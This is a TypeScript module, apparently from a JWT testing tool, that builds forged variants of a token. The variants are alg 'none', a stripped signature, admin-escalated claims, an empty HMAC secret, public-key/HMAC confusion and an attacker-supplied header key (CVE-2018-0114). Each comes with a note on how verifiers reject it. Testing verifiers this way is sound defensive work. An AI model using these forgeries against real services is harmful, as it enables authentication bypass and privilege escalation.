/** Forged variants of a token, as an attacker without the key would make them. */
import { writeBase64url } from '../encoding/base64url.ts';
import type { TokenReading } from '../token-reader/reading.ts';
import { writeUtf8 } from '../encoding/utf8.ts';
import type { GivenKey } from '../token-verification/given-key.ts';
import { signCompact } from '../token-verification/sign.ts';
import { parseToken } from './verifier.ts';

export interface Forgery {
  readonly id: string;
  readonly name: string;
  /** What was done, and what makes it fail. */
  readonly explanation: string;
  readonly token: string;
}

const LETTERS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
const write = (value: unknown): string => writeBase64url(writeUtf8(JSON.stringify(value)));

/** All variants that can be made of this token; none of what is no JWS with a claims set. */
export async function forge(token: TokenReading, key: GivenKey, keyText: string): Promise<Forgery[]> {
  const parsed = parseToken(token);
  if (!parsed) return [];
  const { header, claims } = parsed;
  const [head = '', body = '', signature = ''] = (token.token.split('~')[0] ?? '').split('.');
  const raised = write({ ...claims, ...('sub' in claims ? { sub: 'admin' } : {}), admin: true });
  const unsecured = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
    id: `alg-${alg}`,
    name: `alg ${alg}`,
    explanation:
      'The signature is gone, and the header says that there is none. Refuse whatever is not the pinned algorithm.',
    token: `${write({ ...header, alg })}.${raised}.`,
  }));
  const forgeries: Forgery[] = [
    ...unsecured,
    {
      id: 'stripped',
      name: 'Signature removed',
      explanation: 'Only the last part is gone. An empty signature never verifies.',
      token: `${head}.${body}.`,
    },
    {
      id: 'changed-claims',
      name: 'Claims changed',
      explanation: 'The attacker is admin now, under the old signature, which covers the old text.',
      token: `${head}.${raised}.${signature}`,
    },
  ];
  const respelt = respell(signature);
  if (respelt !== null) {
    forgeries.push({
      id: 'respelt',
      name: 'Signature spelt differently',
      explanation:
        'The same bytes in other characters: no forgery, yet a deny list by token text does not know it. List jti instead.',
      token: `${head}.${body}.${respelt}`,
    });
  }
  const blank = await signCompact(`${write({ ...header, alg: 'HS256' })}.${raised}`, 'HS256', {
    kind: 'secret',
    octets: new Uint8Array(0),
  });
  if (blank !== undefined) {
    forgeries.push({
      id: 'blank-secret',
      name: 'Signed with an empty secret',
      explanation: 'It works where a secret was never configured.',
      token: blank,
    });
  }
  const confused = await confuse(header, raised, key, keyText);
  if (confused) forgeries.push(confused);
  forgeries.push(await bringOwnKey(header, raised));
  return forgeries;
}

/** The last character with an unused bit turned on; `null` when the signature uses all its bits. */
function respell(signature: string): string | null {
  const left = signature.length % 4;
  if (left !== 2 && left !== 3) return null;
  const last = LETTERS.indexOf(signature.at(-1) ?? '');
  return last < 0 ? null : signature.slice(0, -1) + LETTERS.charAt(last ^ 1);
}

async function confuse(
  header: object,
  body: string,
  key: GivenKey,
  keyText: string,
): Promise<Forgery | null> {
  if (key.kind !== 'pem' && key.kind !== 'jwk') return null;
  const input = `${write({ ...header, alg: 'HS256' })}.${body}`;
  const token = await signCompact(input, 'HS256', { kind: 'secret', octets: writeUtf8(keyText) });
  if (token === undefined) return null;
  return {
    id: 'key-confusion',
    name: 'Public key as secret',
    explanation: 'HMAC with the text of the public key, which everybody has. A key belongs to one algorithm.',
    token,
  };
}

async function bringOwnKey(header: object, body: string): Promise<Forgery> {
  const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, [
    'sign',
    'verify',
  ]);
  const [own, secret] = await Promise.all([
    crypto.subtle.exportKey('jwk', pair.publicKey),
    crypto.subtle.exportKey('jwk', pair.privateKey),
  ]);
  const { kty, crv, x, y } = own;
  const input = `${write({ ...header, alg: 'ES256', jwk: { kty, crv, x, y } })}.${body}`;
  return {
    id: 'own-key',
    name: 'Own key in the header',
    explanation:
      'Properly signed, with a key the attacker made and sent along (CVE-2018-0114). Keys come from a set of your own.',
    token: (await signCompact(input, 'ES256', { kind: 'jwk', jwk: { ...secret } })) ?? input,
  };
}
